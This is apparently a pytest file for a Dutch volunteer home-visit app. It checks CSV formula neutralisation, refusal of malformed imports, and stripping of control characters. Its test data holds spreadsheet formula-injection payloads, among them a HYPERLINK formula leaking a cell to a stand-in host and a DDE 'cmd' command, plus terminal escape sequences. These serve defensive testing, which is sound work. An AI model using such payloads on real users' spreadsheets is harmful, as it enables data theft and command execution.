"""Hostile corpus, CSV and text from outside (issue 19 items 4, 9, 10): formula cells are
neutralised in spreadsheet CSV, bad CSV is refused by line with a Dutch message and nothing
imported, control characters never reach storage or the terminal."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import func, select

from huisbezoek.coordinator import addresses
from huisbezoek.coordinator.figures import Period
from huisbezoek.coordinator.report import MunicipalReport, ReportTable, to_csv
from huisbezoek.errors import InvalidInputError
from huisbezoek.exchange.keys import Enrolment, VolunteerKeys
from huisbezoek.exchange.payload import NeighbourhoodCounts
from huisbezoek.safe_text import clean_line, spreadsheet_cell
from huisbezoek.services import residents
from huisbezoek.vault import Vault
from huisbezoek.vault.models import Resident

from .conftest import PASSPHRASE

TODAY = date(2026, 12, 3)
ADDRESS_HEADER = "naam;straat;huisnummer;postcode;woonplaats;geboortedatum;wijk\n"


def address_row(wijk: str = "Oost", name: str = "Jan Jansen") -> str:
    return f"{name};Dorpsstraat;1;1234 AB;Ergens;01-06-1948;{wijk}\n"


# -- item 4: formula injection ------------------------------------------------------------


HOSTILE_CELLS = [
    '=HYPERLINK("http://x.example/?"&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1",
]


def _csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_report_csv_neutralises_formula_cells():
    names = (*HOSTILE_CELLS, "-5", "Oost", "Totaal")
    table = ReportTable(
        title="Bewoners per wijk",
        row_heading="Wijk",
        columns=("Uitgenodigd",),
        rows=names,
        values=tuple((7,) for _ in names),
        rates=tuple(None for _ in names),
    )
    period = Period(label="2026", first="2026-K1", last="2026-K4")
    report = MunicipalReport(made_on=TODAY, period=period, band="75-80", tables=(table,))
    rows = _csv_cells(to_csv(report))
    start = next(i for i, row in enumerate(rows) if row and row[0] == "Wijk") + 1
    body = rows[start : start + len(names)]
    first_cells = [row[0] for row in body]
    for hostile, written in zip(HOSTILE_CELLS, first_cells, strict=False):
        assert written == "'" + hostile, written
    assert first_cells[len(HOSTILE_CELLS) :] == ["-5", "Oost", "Totaal"]  # plain ones as they are
    assert all(row[1] == "7" for row in body)  # numbers stay numbers


@pytest.mark.parametrize("wijk", ['=HYPERLINK("x")', "+cmd|x", "@SUM(1)", "-2+3"])
def test_address_list_neighbourhood_reaches_report_as_text(wijk):
    rows = addresses.parse_address_list((ADDRESS_HEADER + address_row(wijk)).encode(), today=TODAY)
    assert rows[0].neighbourhood == wijk  # stored as given (it is a name) ...
    assert spreadsheet_cell(rows[0].neighbourhood) == "'" + wijk  # ... written as text


def test_neighbourhood_from_a_batch_loses_control_characters():
    counts = NeighbourhoodCounts.model_validate({"neighbourhood": "Oost\x1b[2J\nNep regel"})
    assert counts.neighbourhood == "Oost[2J Nep regel"


# -- item 9: CSV that does not fit ----------------------------------------------------------


def test_address_field_over_the_csv_limit(monkeypatch, capsys):
    data = (ADDRESS_HEADER + address_row(wijk="x" * (200 * 1024))).encode()
    with pytest.raises(InvalidInputError) as info:
        addresses.parse_address_list(data, today=TODAY)
    assert "Regel 2" in info.value.message_nl and "te lang" in info.value.message_nl


def test_address_list_with_unbalanced_quote():
    data = (ADDRESS_HEADER + address_row(name='"Jan') + address_row(name="Piet")).encode()
    with pytest.raises(InvalidInputError) as info:
        addresses.parse_address_list(data, today=TODAY)
    assert "aanhalingsteken" in info.value.message_nl


@pytest.fixture
def vault(vault_dir):
    with Vault.open(vault_dir, PASSPHRASE) as opened:
        yield opened


def _count(vault) -> int:
    with vault.session() as s:
        return s.scalar(select(func.count()).select_from(Resident))


RESIDENT_HEADER = "naam;adres;postcode\n"


def test_resident_csv_unbalanced_quote_is_refused_not_merged(vault):
    data = RESIDENT_HEADER + '"Jan Jansen;Dorpsstraat 1;1234AB\n' + "Piet;Laan 2;1234AB\n" * 5
    with pytest.raises(InvalidInputError) as info:
        residents.import_csv(vault, data.encode())
    assert "Regel 2" in info.value.message_nl and "aanhalingsteken" in info.value.message_nl
    assert _count(vault) == 0


def test_resident_csv_with_nul_is_refused(vault):
    data = (RESIDENT_HEADER + "Jan\0Jansen;Dorpsstraat 1;1234AB\n").encode()
    with pytest.raises(InvalidInputError) as info:
        residents.import_csv(vault, data)
    assert "nultekens" in info.value.message_nl
    assert _count(vault) == 0


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_csv_gets_a_message_about_the_encoding(vault, encoding):
    data = (RESIDENT_HEADER + "Jan Jansen;Dorpsstraat 1;1234AB\n").encode(encoding)
    with pytest.raises(InvalidInputError) as info:
        residents.import_csv(vault, data)
    assert "UTF-16" in info.value.message_nl and "CSV UTF-8" in info.value.message_nl
    assert _count(vault) == 0
    with pytest.raises(InvalidInputError) as info:
        addresses.parse_address_list((ADDRESS_HEADER + address_row()).encode(encoding), today=TODAY)
    assert "UTF-16" in info.value.message_nl


def test_resident_csv_control_characters_are_not_stored(vault):
    data = (RESIDENT_HEADER + "Jan\x1b[2J Jansen;Dorps\x07straat 1;1234AB\n").encode()
    assert residents.import_csv(vault, data).added == 1
    with vault.session() as s:
        stored = s.scalars(select(Resident)).one()
    assert stored.name == "Jan[2J Jansen" and stored.address == "Dorpsstraat 1"


# -- item 10: control characters in an enrolment name ---------------------------------------


def test_enrolment_name_loses_control_characters():
    keys = VolunteerKeys.generate()
    data = (
        keys.enrolment("Els").to_bytes().replace(b'"Els"', b'"Els\\u001b[2J\\nGOEDGEKEURD: alle"')
    )
    enrolment = Enrolment.from_bytes(data)
    assert enrolment.name == "Els[2J GOEDGEKEURD: alle"
    assert clean_line(enrolment.name) == enrolment.name
